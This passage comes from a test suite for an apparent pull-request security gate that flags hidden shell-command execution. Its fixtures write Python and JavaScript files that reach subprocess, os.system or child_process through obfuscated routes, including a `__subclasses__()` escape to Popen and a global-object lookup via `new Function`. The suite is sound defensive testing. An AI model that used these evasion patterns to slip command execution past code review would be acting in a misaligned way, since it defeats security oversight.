        writeFileSync(join(dir, "agent/use.py"), `from q9 import sp\nsp.run("${CMD}", shell=True)\n`);
      },
    );
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/use.py 2 1"]);
  });

  it("scan/shell-command: Python — a re-export chain of 7 unchanged files, a module passed 4 calls deep, a 17th definition of a name, a factory returning through a local past the second level, a class method's return under 70 blocks — fails the built Action, at the call", async () => {
    const pr = await pullRequest(
      (dir) => {
        writeFileSync(join(dir, "agent/reexport.py"), `from p6 import sp\nsp.run("${CMD}", shell=True)\n`);
        writeFileSync(join(dir, "agent/passed.py"), `import subprocess\ndef f4(m):\n    return m.run("${CMD}", shell=True)\ndef f3(m):\n    return f4(m)\ndef f2(m):\n    return f3(m)\ndef f1(m):\n    return f2(m)\nf1(subprocess)\n`);
        writeFileSync(join(dir, "agent/same.py"), `import subprocess\n${Array.from({ length: 16 }, (_, i) => `def g${i}():\n    def f(m):\n        return m\n    return f\n`).join("")}def f(m):\n    return m.run("${CMD}", shell=True)\nf(subprocess)\n`);
        writeFileSync(join(dir, "agent/local.py"), `import subprocess\ndef c():\n    return subprocess.run\ndef b():\n    return c()\ndef a():\n    x = b()\n    return x\ndef z():\n    return a()\nz()("${CMD}", shell=True)\n`);
        writeFileSync(join(dir, "agent/classmethod.py"), `import subprocess\nclass A:\n    @classmethod\n    def make(cls):\n${Array.from({ length: 70 }, (_, i) => `${" ".repeat(8 + i)}if True:\n`).join("")}${" ".repeat(78)}return subprocess.run\nA.make()("${CMD}", shell=True)\n`);
      },
      (dir) => {
        writeFileSync(join(dir, "agent/p0.py"), "import subprocess as sp\n");
        for (let i = 1; i < 7; i++) writeFileSync(join(dir, `agent/p${i}.py`), `from p${i - 1} import sp\n`);
      },
    );
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/classmethod.py 76 1",
      "scan/shell-command agent/local.py 11 1",
      "scan/shell-command agent/passed.py 3 12",
      "scan/shell-command agent/reexport.py 2 1",
      "scan/shell-command agent/same.py 67 12",
    ]);
  });

  it("scan/shell-command: JavaScript — a factory chain four deep, a return under 70 blocks, a getter's eleventh return, a static method ten classes deep, a method called under 40 blocks — fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/factories.js"), `const cp = require("child_process");\nfunction c() { return cp.execSync; }\nfunction b() { return c(); }\nfunction a() { return b(); }\nfunction z() { return a(); }\nz()("${CMD}");\n`);
      writeFileSync(join(dir, "agent/deep.js"), `const cp = require("child_process");\nfunction make() {\n${ifs(70)}return cp.execSync;\n${"}\n".repeat(70)}}\nmake()("${CMD}");\n`);
      writeFileSync(join(dir, "agent/getter.js"), `const cp = require("child_process");\nconst o = {\n  get run() {\n${"    if (globalThis.k) return null;\n".repeat(10)}    return cp.execSync;\n  },\n};\no.run("${CMD}");\n`);
      let inner = "class { static make() { return cp.execSync; } }";
      for (let i = 2; i < 10; i++) inner = `class { static B = ${inner}; }`;
      writeFileSync(join(dir, "agent/classes.js"), `const cp = require("child_process");\nclass A { static B = ${inner}; }\nA${".B".repeat(9)}.make()("${CMD}");\n`);
      writeFileSync(join(dir, "agent/walk.js"), `const cp = require("child_process");\nclass R {\n  go(m) { return m.execSync("${CMD}"); }\n  run() {\n${ifs(40)}this.go(cp);\n${"}\n".repeat(40)}  }\n}\nnew R().run();\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/classes.js 3 1",
      "scan/shell-command agent/deep.js 145 1",
      "scan/shell-command agent/factories.js 6 1",
      "scan/shell-command agent/getter.js 17 1",
      "scan/shell-command agent/walk.js 3 18",
    ]);
  });

  it("scan/shell-command: Python — a factory chain four deep, a return under 70 blocks, 70 chained names, a static method nine classes deep, a method called under 40 blocks — fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/factories.py"), `import subprocess\ndef c():\n    return subprocess.run\ndef b():\n    return c()\ndef a():\n    return b()\ndef z():\n    return a()\nz()("${CMD}", shell=True)\n`);
      writeFileSync(join(dir, "agent/deep.py"), `import subprocess\ndef make():\n${Array.from({ length: 70 }, (_, i) => `${" ".repeat(i + 1)}if True:\n`).join("")}${" ".repeat(71)}return subprocess.run\nmake()("${CMD}", shell=True)\n`);
      writeFileSync(join(dir, "agent/chain.py"), `import subprocess\n${Array.from({ length: 70 }, (_, i) => `x${i}`).join(" = ")} = subprocess.run\nx0("${CMD}", shell=True)\n`);
      let classes = "import subprocess\n";
      for (let i = 0; i < 9; i++) classes += `${" ".repeat(4 * i)}class ${i ? "B" : "A"}:\n`;
      writeFileSync(join(dir, "agent/classes.py"), `${classes}${" ".repeat(36)}@staticmethod\n${" ".repeat(36)}def make():\n${" ".repeat(40)}return subprocess.run\nA${".B".repeat(8)}.make()("${CMD}", shell=True)\n`);
      writeFileSync(join(dir, "agent/walk.py"), `import subprocess\nclass R:\n    def go(self, m):\n        return m.run("${CMD}", shell=True)\n    def run(self):\n${Array.from({ length: 40 }, (_, i) => `${" ".repeat(8 + i)}if True:\n`).join("")}${" ".repeat(48)}self.go(subprocess)\nR().run()\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/chain.py 3 1",
      "scan/shell-command agent/classes.py 14 1",
      "scan/shell-command agent/deep.py 74 1",
      "scan/shell-command agent/factories.py 10 1",
      "scan/shell-command agent/walk.py 4 16",
    ]);
  });
});

describe("JavaScript values carried by promises, generators, nested literals, Maps, WeakRefs and longer callbacks fail the gate", () => {
  it("scan/shell-command: a promise held by a name or made in place, a generator's yield, an iterator stepped by hand, a nested literal, a Map of a module's entries, a WeakRef, entries under other keys and a longer callback fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/promise.js"), `const cp = require("child_process");\nasync function mk() { return cp.execSync; }\nconst p = mk();\np.then((f) => f("${CMD}"));\n(async () => cp.execSync)().then((f) => f("${CMD}"));\n`);
      writeFileSync(join(dir, "agent/generator.js"), `const cp = require("child_process");\nfunction* g() { yield cp.execSync; }\ng().next().value("${CMD}");\n[cp.execSync].values().next().value("${CMD}");\n`);
      writeFileSync(join(dir, "agent/held.js"), `const cp = require("child_process");\nconst t = { a: [cp.execSync] };\nt.a[0]("${CMD}");\nnew Map(Object.entries(cp)).get("execSync")("${CMD}");\nnew WeakRef(cp).deref().execSync("${CMD}");\n`);
      writeFileSync(join(dir, "agent/mapped.js"), `const cp = require("child_process");\nObject.fromEntries(Object.entries(cp).map(([k, v]) => ["x" + k, v])).xexecSync("${CMD}");\n[cp].map((m) => { const f = m.execSync; return f; })[0]("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/generator.js 3 1",
      "scan/shell-command agent/generator.js 4 1",
      "scan/shell-command agent/held.js 3 1",
      "scan/shell-command agent/held.js 4 1",
      "scan/shell-command agent/held.js 5 1",
      "scan/shell-command agent/mapped.js 2 1",
      "scan/shell-command agent/mapped.js 3 1",
      "scan/shell-command agent/promise.js 4 15",
      "scan/shell-command agent/promise.js 5 41",
    ]);
  });
});

describe("Python decorators, generators, `match` patterns, the builtins, reduce and `object.__subclasses__()` fail the gate", () => {
  it("scan/shell-command, scan/dynamic-code: each form fails the built Action, where called, yielded, stored or handed over", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/deco.py"), `import os\ndef deco(fn):\n    return os.system\n@deco\ndef run(): pass\nrun("${CMD}")\n`);
      writeFileSync(join(dir, "agent/gen.py"), `import os\ndef g():\n    yield os.system\nnext(g())("${CMD}")\n`);
      writeFileSync(join(dir, "agent/match.py"), `import os\nmatch {"f": os.system}:\n    case {"f": f}:\n        f("${CMD}")\n`);
      writeFileSync(join(dir, "agent/store.py"), `import os, builtins\nbuiltins.zz = os.system\n`);
      writeFileSync(join(dir, "agent/use.py"), `zz("${CMD}")\n`);
      writeFileSync(join(dir, "agent/reduce.py"), `import os, functools\nfunctools.reduce(getattr, ["system"], os)("${CMD}")\n`);
      writeFileSync(join(dir, "agent/escape.py"), `[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("${CMD}", shell=True)\n`);
      writeFileSync(join(dir, "agent/pairs.py"), `import os\ndict([p for p in [("r", os.system)]])["r"]("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/dynamic-code agent/escape.py 1 13",
      "scan/shell-command agent/deco.py 6 1",
      "scan/shell-command agent/gen.py 3 11",
      "scan/shell-command agent/match.py 4 9",
      "scan/shell-command agent/pairs.py 2 25",
      "scan/shell-command agent/reduce.py 2 1",
      "scan/shell-command agent/store.py 2 15",
    ]);
  });

  it("scan/shell-command: `and`, a starred or nested unpacking, a loop over a set held by a name and comprehensions over a literal fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/and.py"), `import os
run = True and os.system
run("${CMD}")
`);
      writeFileSync(join(dir, "agent/star.py"), `import os
_, *rest = [1, os.system]
rest[0]("${CMD}")
`);
      writeFileSync(join(dir, "agent/nested.py"), `import os
(a, b), c = (os.system, 1), 2
a("${CMD}")
`);
      writeFileSync(join(dir, "agent/loop.py"), `import os
s = {os.system}
for g in s:
    g("${CMD}")
`);
      writeFileSync(join(dir, "agent/comp.py"), `import os
f = [x for x in [os.system]][0]
f("${CMD}")
{k: v for k, v in {"r": os.popen}.items()}["r"]("${CMD}")
`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/and.py 3 1",
      "scan/shell-command agent/comp.py 3 1",
      "scan/shell-command agent/comp.py 4 1",
      "scan/shell-command agent/loop.py 4 5",
      "scan/shell-command agent/nested.py 3 1",
      "scan/shell-command agent/star.py 3 1",
    ]);
  });

  it("scan/shell-command: a value unpacked from past a splat and a class attribute set outside the class body (read as `self.run` in a method) fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/splat.py"), `import os
x = [print]
a, b = *x, os.system
b("${CMD}")
`);
      writeFileSync(join(dir, "agent/attr.py"), `import os
class A:
    def go(self):
        self.run("${CMD}")
A.run = os.system
A().go()
`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/attr.py 4 9", "scan/shell-command agent/splat.py 4 1"]);
  });
});

describe("functions written in place as an object's property or an export, and instance methods, fail the gate", () => {
  it("scan/shell-command: JavaScript — an object literal's arrow and method, an instance method on `new K()`, CommonJS exports assigned functions, a default-exported arrow — fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/object.js"), `const cp = require("child_process");\nconst o = { make: () => cp, run() { return cp.execSync; } };\no.make().execSync("${CMD}");\no.run()("${CMD}");\n`);
      writeFileSync(join(dir, "agent/method.js"), `const cp = require("child_process");\nclass K { run() { return cp.execSync; } }\nnew K().run()("${CMD}");\n`);
      writeFileSync(join(dir, "agent/lib.js"), `const cp = require("child_process");\nexports.make = () => cp;\nmodule.exports.run = function () { return cp.execSync; };\n`);
      writeFileSync(join(dir, "agent/use.js"), `const lib = require("./lib");\nlib.make().execSync("${CMD}");\nlib.run()("${CMD}");\n`);
      writeFileSync(join(dir, "agent/dflt.mjs"), `import cp from "child_process";\nexport default () => cp.execSync;\n`);
      writeFileSync(join(dir, "agent/usedflt.mjs"), `import mk from "./dflt.mjs";\nmk()("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/method.js 3 1",
      "scan/shell-command agent/object.js 3 1",
      "scan/shell-command agent/object.js 4 1",
      "scan/shell-command agent/use.js 2 1",
      "scan/shell-command agent/use.js 3 1",
      "scan/shell-command agent/usedflt.mjs 2 1",
    ]);
  });

  it("scan/shell-command: Python — an instance method on `K()`, a dict's lambda, a method name two classes share — fails the built Action, at the call (the shared name where returned)", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/method.py"), `import os\nclass K:\n    def run(self):\n        return os.system\nK().run()("${CMD}")\n`);
      writeFileSync(join(dir, "agent/table.py"), `import os\nt = {"make": lambda: os}\nt["make"]().system("${CMD}")\n`);
      writeFileSync(join(dir, "agent/shared.py"), `import os\nclass K:\n    def run(self):\n        return os.system\nclass L:\n    def run(self):\n        return print\nK().run()("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/method.py 5 1", "scan/shell-command agent/shared.py 4 16", "scan/shell-command agent/table.py 3 1"]);
  });
});

describe("the global object obtained from evaluated code, and JavaScript values carried by spreads, `&&`, WeakMaps, parameter defaults and iterators, fail the gate", () => {
  it("scan/shell-command: `new Function(\"return this\")()` and an indirect `(0, eval)(\"this\")` held by a name, the process's main module's loader reached from it, fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/global.js"), `const g = new Function("return this")();\ng.process.mainModule.require("child_process").execSync("${CMD}");\nconst g2 = (0, eval)("this");\ng2.process.mainModule.require("child_process").exec("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/global.js 2 1", "scan/shell-command agent/global.js 4 1"]);
  });

  it("scan/shell-command: a held literal spread into another, `&&`'s right operand, a WeakMap's entry, a destructured parameter's default and a collection's own iterator carrying child_process fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/carried.js"), `const cp = require("child_process");
const a = { x: cp.execSync };
const b = { ...a };
b.x("${CMD}");
const o = process.env.CI && cp;
o.execSync("${CMD}");
const w = new WeakMap();
w.set(module, cp);
w.get(module).execSync("${CMD}");
function f({ run } = { run: cp.execSync }) {
  run("${CMD}");
}
[cp.execSync][Symbol.iterator]().next().value("${CMD}");
`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/carried.js 11 3",
      "scan/shell-command agent/carried.js 13 1",
      "scan/shell-command agent/carried.js 4 1",
      "scan/shell-command agent/carried.js 6 1",
      "scan/shell-command agent/carried.js 9 1",
    ]);
  });
});

describe("functions held by a local and returned, a nested function's call returned, and factories of factories handed over, fail the gate", () => {
  it("scan/shell-command: JavaScript and Python — `const g = () => cp.execSync; return g`, `return inner()`, `lazy(h)` of `h = () => () => cp.execSync` — fail the built Action, at the call (the handed factory where handed)", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/local.js"), `const cp = require("child_process");\nfunction f() { const g = () => cp.execSync; return g; }\nf()()("${CMD}");\nfunction n() { function inner() { return cp; } return inner(); }\nn().execSync("${CMD}");\nconst h = () => () => cp.execSync;\nlazy(h);\n`);
      writeFileSync(join(dir, "agent/local.py"), `import os\ndef f():\n    g = lambda: os.system\n    return g\nf()()("${CMD}")\ndef n():\n    def inner(): return os\n    return inner()\nn().system("${CMD}")\nh = lambda: lambda: os.system\nlazy(h)\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/local.js 3 1",
      "scan/shell-command agent/local.js 5 1",
      "scan/shell-command agent/local.js 7 6",
      "scan/shell-command agent/local.py 11 6",
      "scan/shell-command agent/local.py 5 1",
      "scan/shell-command agent/local.py 9 1",
    ]);
  });
});
